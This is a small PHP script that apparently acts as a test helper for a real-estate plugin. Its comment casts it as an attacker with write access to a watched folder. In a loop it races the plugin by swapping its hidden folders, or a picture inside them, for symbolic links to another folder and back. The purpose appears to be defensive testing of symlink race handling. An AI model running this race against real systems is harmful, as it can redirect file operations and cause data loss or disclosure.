<?php
/**
 * An attacker with write access to the watched folder: php planter.php <folder> <other folder> <picture|folder>
 * replaces the plugin's hidden folders, or a picture in them, by links to the other folder and back, until it is terminated.
 */

declare(strict_types=1);

[ , $sw_immosuite_root, $sw_immosuite_other_folder, $sw_immosuite_what ] = $argv + [ '', '', '', '' ];

while ( is_dir( $sw_immosuite_root ) ) {
	$sw_immosuite_found = glob( "{$sw_immosuite_root}/.sw-immosuite-*" );
	foreach ( false === $sw_immosuite_found ? [] : $sw_immosuite_found as $sw_immosuite_hidden_folder ) {
		if ( 'folder' === $sw_immosuite_what ) {
			@rename( "{$sw_immosuite_root}/.held", "{$sw_immosuite_root}/.lost-" . bin2hex( random_bytes( 4 ) ) );
			@rename( $sw_immosuite_hidden_folder, "{$sw_immosuite_root}/.held" );
			@symlink( $sw_immosuite_other_folder, $sw_immosuite_hidden_folder );
			usleep( random_int( 0, 300 ) );
			@unlink( $sw_immosuite_hidden_folder );
			@rename( "{$sw_immosuite_root}/.held", $sw_immosuite_hidden_folder );
		} elseif ( is_file( "{$sw_immosuite_hidden_folder}/wohnung-front.png" ) ) {
			@symlink( "{$sw_immosuite_other_folder}/wohnung-front.png", "{$sw_immosuite_root}/.link" );
			@rename( "{$sw_immosuite_root}/.link", "{$sw_immosuite_hidden_folder}/wohnung-front.png" );
			usleep( random_int( 0, 300 ) );
			@file_put_contents( "{$sw_immosuite_root}/.plain", 'picture' );
			@rename( "{$sw_immosuite_root}/.plain", "{$sw_immosuite_hidden_folder}/wohnung-front.png" );
		}
		usleep( random_int( 0, 300 ) );
	}
}
